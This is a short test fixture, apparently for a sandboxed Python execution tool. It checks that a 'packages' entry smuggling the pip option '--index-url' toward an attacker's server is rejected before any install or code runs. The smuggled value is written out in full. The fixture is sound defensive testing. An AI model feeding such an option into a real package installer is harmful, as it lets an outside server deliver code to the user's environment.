# attack: a "packages" spec that is a pip option: --index-url to a server of the attacker's, so that the installer fetches from there (through the SDK client)
# expect: isError naming the spec before anything is installed; the code never runs
# packages: ["--index-url=http://192.0.2.10/simple"]
# check: res.isError === true && (res.content?.[0]?.text ?? '').includes('--index-url')
# check: !JSON.stringify(res).includes('ESCAPED')
print("ESCAPED: the code ran")
